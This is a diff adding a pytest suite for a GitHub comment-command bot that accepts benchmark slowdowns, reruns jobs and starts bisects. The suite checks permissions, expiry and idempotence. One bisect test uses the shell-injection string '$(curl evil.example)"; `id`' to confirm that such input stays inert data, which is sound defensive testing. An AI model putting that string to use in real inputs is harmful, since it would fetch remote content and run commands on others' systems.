@@ -1,0 +1,328 @@
+"""What people ask for in comments: who is obeyed, what is done, and how long an acceptance holds."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from roofwatch.ci.github.check_run import BEGUN
+from roofwatch.ci.github.commands import carry_out
+from roofwatch.ci.github.event import ActionsRun, CommandRequest, Job, RunOrder, WrittenComment
+from roofwatch.ci.github.posting import post_check_run
+from roofwatch.posting import Posted, post, report_on
+from tests.builders import CASE_ID, sha_of
+from tests.ci.github.jobs import WORKFLOWS
+from tests.ci.github.stand_in import REPOSITORY, TOKEN, GitHubStandIn
+from tests.ci.situations import HOSTILE, SITUATIONS
+from tests.roofwatch.command import roofwatch
+
+PREFIX = "/roofwatch"
+HEAD, BASE = sha_of(1), sha_of(0)
+NUMBER = 7
+URL = "https://github.example/example/project/actions/runs/10"
+
+
+@pytest.fixture
+def github(github: GitHubStandIn) -> GitHubStandIn:
+    """With one pull request, one person who may write and one who may not."""
+    github.pull_requests = [{"number": NUMBER, "head": {"label": "o:b", "sha": HEAD}, "base": {"sha": BASE}}]
+    github.permissions = {"maintainer": "write", "owner": "admin", "reader": "read"}
+    return github
+
+
+def request(github: GitHubStandIn, body: str, login: str = "maintainer") -> CommandRequest:
+    """Somebody writes a comment, and the job that it starts reads its event."""
+    user = {"login": login, "type": "User"}
+    comment_id = github.add_comment(body, number=NUMBER, user=user, author_association="COLLABORATOR")
+    comment = WrittenComment(comment_id, NUMBER, login, "2026-01-02T03:04:05Z", body)
+    return CommandRequest(ActionsRun(github.url, REPOSITORY, RunOrder(500, 1), None), comment, "main")
+
+
+def ask(github: GitHubStandIn, body: str, login: str = "maintainer") -> tuple[str, str | None]:
+    """The answer and the reaction."""
+    reply = carry_out(github.repository(), request(github, body, login), "roofwatch")
+    return reply.line, reply.reaction
+
+
+def tell(github: GitHubStandIn, folder: Path, situation: str = "regression", run_id: int = 10) -> Posted:
+    base, head = SITUATIONS[situation]()
+    files = [folder / "base.json", folder / "head.json"]
+    base.write(files[0])
+    head.write(files[1])
+    job = Job(ActionsRun(github.url, REPOSITORY, RunOrder(run_id, 1), URL), HEAD, pull_request=NUMBER)
+    report = report_on(files, None, job)
+    return post(github.repository(), job, report, "roofwatch", with_comment=True, with_check=True)
+
+
+def report_comment(github: GitHubStandIn) -> str:
+    (found,) = [body for body in github.bodies if body.startswith("<!-- roofwatch:report -->")]
+    return found
+
+
+def newest_check_run(github: GitHubStandIn) -> dict[str, Any]:
+    return github.check_runs[max(github.check_runs)]
+
+
+# --- accept
+
+
+def test_an_accepted_slowdown_is_neutral_and_says_who_when_and_why(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+    assert newest_check_run(github)["conclusion"] == "failure"
+
+    line, reaction = ask(github, f"{PREFIX} accept  the new layout costs this\nand more")
+
+    said = "**Accepted** by `maintainer` on `2026-01-02`: `the new layout costs this`."
+    assert reaction == "+1"
+    assert line.startswith("Accepted by `maintainer`")
+    assert f"\n> {said} It holds until something else is found.\n" in report_comment(github)
+    check_run = newest_check_run(github)
+    assert (check_run["conclusion"], check_run["output"]["title"]) == (
+        "neutral",
+        "accepted: regressed: 2 regressed, 1 unchanged",
+    )
+    assert check_run["output"]["summary"].startswith(said)
+    assert "#### Time" in check_run["output"]["summary"]
+
+
+@pytest.mark.slow
+def test_it_holds_for_the_same_findings_in_later_runs_and_no_longer(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+    ask(github, f"{PREFIX} accept it is meant")
+
+    again = tell(github, tmp_path, run_id=11)
+    assert (again.check_run, again.accepted_by) == ("neutral", "maintainer")
+    assert "> **Accepted** by `maintainer`" in report_comment(github)
+
+    other = tell(github, tmp_path, "incorrect", run_id=12)
+    assert (other.check_run, other.accepted_by) == ("failure", None)
+    assert "Accepted" not in report_comment(github)
+
+    assert tell(github, tmp_path, run_id=13).check_run == "failure", "it is forgotten once something else was found"
+
+
+def test_a_slowdown_that_became_larger_than_what_was_accepted_is_not_accepted(
+    github: GitHubStandIn, tmp_path: Path
+) -> None:
+    tell(github, tmp_path)
+    ask(github, f"{PREFIX} accept it is meant")
+    (mine,) = (each for each in github.comments.values() if each["body"].startswith("<!-- roofwatch:report -->"))
+    accepted = [line for line in mine["body"].splitlines() if line.startswith("<!-- roofwatch:accepted ")]
+    smaller = " ".join([*accepted[0].split()[:-2], "100", "-->"])
+    mine["body"] = mine["body"].replace(accepted[0], smaller)
+
+    assert tell(github, tmp_path, run_id=11).check_run == "failure"
+
+
+def test_an_acceptance_ends_when_its_comment_is_deleted_or_its_author_may_no_longer_write(
+    github: GitHubStandIn, tmp_path: Path
+) -> None:
+    tell(github, tmp_path)
+    ask(github, f"{PREFIX} accept it is meant")
+    github.permissions["maintainer"] = "read"
+    assert tell(github, tmp_path, run_id=11).check_run == "failure"
+
+    ask(github, f"{PREFIX} accept it is meant", "owner")
+    assert tell(github, tmp_path, run_id=12).check_run == "neutral"
+    del github.comments[max(key for key, each in github.comments.items() if each["body"].startswith(PREFIX))]
+    assert tell(github, tmp_path, run_id=13).check_run == "failure"
+
+
+def test_a_mark_in_a_comment_of_somebody_who_may_only_read_is_not_believed(
+    github: GitHubStandIn, tmp_path: Path
+) -> None:
+    tell(github, tmp_path)
+    ask(github, f"{PREFIX} accept it is meant")
+    marked = report_comment(github)
+    first = min(github.comments)
+    github.comments[first] = github.comments[first] | {
+        "body": marked,
+        "user": {"login": "reader", "type": "User"},
+        "author_association": "COLLABORATOR",
+    }
+
+    assert tell(github, tmp_path, run_id=11).check_run == "failure"
+
+
+def test_a_later_acceptance_replaces_the_earlier_one(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+    ask(github, f"{PREFIX} accept one reason")
+    ask(github, f"{PREFIX} accept a better one", "owner")
+
+    assert report_comment(github).count("**Accepted**") == 1
+    assert report_comment(github).count("roofwatch:accepted") == 1
+    assert "by `owner` on `2026-01-02`: `a better one`" in report_comment(github)
+
+
+def test_what_was_found_at_another_commit_is_not_accepted(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+    github.pull_requests[0]["head"]["sha"] = sha_of(9)
+
+    line, reaction = ask(github, f"{PREFIX} accept it is meant")
+
+    assert reaction == "confused"
+    assert line.startswith(f"What is told here was found at `{HEAD[:8]}`")
+    assert "Accepted" not in report_comment(github)
+
+
+def test_where_nothing_regressed_there_is_nothing_to_accept(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path, "improvement")
+
+    assert ask(github, f"{PREFIX} accept it is meant") == ("No regression is told on this pull request.", "confused")
+
+
+def test_a_reason_can_inject_nothing(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+
+    ask(github, f"{PREFIX} accept {' '.join(HOSTILE.split())}")
+
+    (said,) = [line for line in report_comment(github).splitlines() if line.startswith("> **Accepted**")]
+    assert said.count("`") == 6
+    assert len(report_comment(github)) < 65_536
+
+
+@pytest.mark.slow
+def test_of_a_comment_as_long_as_can_be_the_acceptance_can_still_be_posted(
+    github: GitHubStandIn, tmp_path: Path
+) -> None:
+    tell(github, tmp_path, "huge")
+    ask(github, f"{PREFIX} accept {'é' * 500}")
+
+    assert "é" * 150 in report_comment(github)
+    assert len(report_comment(github).encode()) < 65_536
+
+
+# --- rerun and bisect
+
+
+def test_rerun_starts_the_run_that_measured_once_more(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path, run_id=4_242)
+
+    line, reaction = ask(github, f"{PREFIX} rerun")
+
+    assert (github.run_again, reaction) == ([4_242], "+1")
+    assert "is measured again" in line
+    begun = newest_check_run(github)
+    assert (begun["status"], begun["external_id"]) == ("in_progress", "roofwatch:4242.2")
+
+
+def test_what_is_being_measured_is_not_started_again(github: GitHubStandIn) -> None:
+    post_check_run(github.repository(), HEAD, "roofwatch", RunOrder(10, 1), BEGUN, URL)
+
+    assert ask(github, f"{PREFIX} rerun") == ("It is being measured just now.", "confused")
+    assert github.run_again == []
+
+
+def test_without_a_run_there_is_nothing_to_run_again(github: GitHubStandIn) -> None:
+    line, reaction = ask(github, f"{PREFIX} rerun")
+
+    assert (line.startswith("Nothing was measured at"), reaction) == (True, "confused")
+
+
+@pytest.mark.parametrize("is_carried_out", [True, False])
+def test_whether_a_run_was_started_is_not_guessed(
+    github: GitHubStandIn, tmp_path: Path, waits_s: list[float], is_carried_out: bool
+) -> None:
+    tell(github, tmp_path)
+    github.break_connection("actions/re-run-workflow", is_carried_out=is_carried_out)
+
+    line, reaction = ask(github, f"{PREFIX} rerun")
+
+    assert reaction == "confused"
+    assert line == "GitHub did not say whether it did it; look before you ask again."
+    assert waits_s == [1]
+    assert len(github.run_again) == is_carried_out
+
+
+@pytest.mark.parametrize(
+    ("rest", "series"),
+    [("", f"{CASE_ID}/eager"), (" softmax/n=1/float32/fwd triton", "softmax/n=1/float32/fwd/triton")],
+)
+def test_bisect_searches_the_commits_of_the_pull_request(
+    github: GitHubStandIn, tmp_path: Path, rest: str, series: str
+) -> None:
+    tell(github, tmp_path)
+
+    line, reaction = ask(github, f"{PREFIX} bisect{rest}")
+
+    inputs = {"series": series, "base": BASE, "head": HEAD, "number": "7"}
+    assert github.started == [{"workflow": "bisect.yml", "ref": "main", "inputs": inputs}]
+    assert (f"`{series}`" in line, reaction) == (True, "+1")
+
+
+def test_a_name_with_a_shell_in_it_is_data_in_the_inputs_of_the_workflow(github: GitHubStandIn) -> None:
+    ask(github, f'{PREFIX} bisect $(curl evil.example)"; `id` eager')
+
+    (started,) = github.started
+    assert started["inputs"]["series"] == '$(curl/evil.example)";/`id`/eager'
+    text = (WORKFLOWS / "bisect.yml").read_text()
+    assert 'run: roofwatch bisect "$SUITE" --series "$SERIES"' in text
+
+
+# --- who is obeyed
+
+
+@pytest.mark.parametrize("login", ["reader", "stranger"])
+@pytest.mark.parametrize("body", ["accept because", "rerun", "nonsense"])
+def test_who_may_not_write_gets_a_reaction_and_no_word(
+    github: GitHubStandIn, tmp_path: Path, login: str, body: str
+) -> None:
+    tell(github, tmp_path)
+    before = len(github.comments)
+
+    line, reaction = ask(github, f"{PREFIX} {body}", login)
+
+    assert (reaction, line) == ("-1", f"`{login}` may not write to the repository")
+    assert len(github.comments) == before + 1, "their own"
+    assert newest_check_run(github)["conclusion"] == "failure"
+    assert (github.run_again, github.started) == ([], [])
+
+
+def test_what_is_no_command_asks_github_for_nothing(github: GitHubStandIn) -> None:
+    reply = carry_out(github.repository(), request(github, "looks good"), "roofwatch")
+
+    assert (reply.verb, reply.reaction) == (None, None)
+    assert github.requests == []
+
+
+def test_what_begins_like_a_command_and_is_none_is_answered(github: GitHubStandIn) -> None:
+    line, reaction = ask(github, f"{PREFIX} aprove")
+
+    assert ("that is no command; there are" in line, reaction) == (True, "confused")
+
+
+def test_a_job_that_is_run_twice_answers_once(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+    once = request(github, f"{PREFIX} accept it is meant")
+
+    for _ in range(2):
+        carry_out(github.repository(), once, "roofwatch")
+
+    assert sum(body.startswith("<!-- roofwatch:answer ") for body in github.bodies) == 1
+    assert github.reactions == [(once.comment.comment_id, "+1")]
+
+
+def test_the_command_reads_the_event_and_says_what_it_did(github: GitHubStandIn, tmp_path: Path) -> None:
+    tell(github, tmp_path)
+    comment = github.comments[request(github, f"{PREFIX} accept it is meant").comment.comment_id]
+    event = {
+        "action": "created",
+        "issue": {"number": NUMBER, "pull_request": {}},
+        "comment": comment,
+        "repository": {"default_branch": "main"},
+    }
+    file = tmp_path / "event.json"
+    file.write_text(json.dumps(event))
+    variables = {
+        "GITHUB_API_URL": github.url,
+        "GITHUB_REPOSITORY": REPOSITORY,
+        "GITHUB_EVENT_NAME": "issue_comment",
+        "GITHUB_EVENT_PATH": str(file),
+        "GITHUB_TOKEN": TOKEN,
+    }
+
+    done = roofwatch("command", "--json", cwd=tmp_path, **variables)
+
+    assert (done.status, done.parsed["verb"], done.parsed["reaction"]) == (0, "accept", "+1"), done.error
+    assert "> **Accepted** by `maintainer`" in report_comment(github)
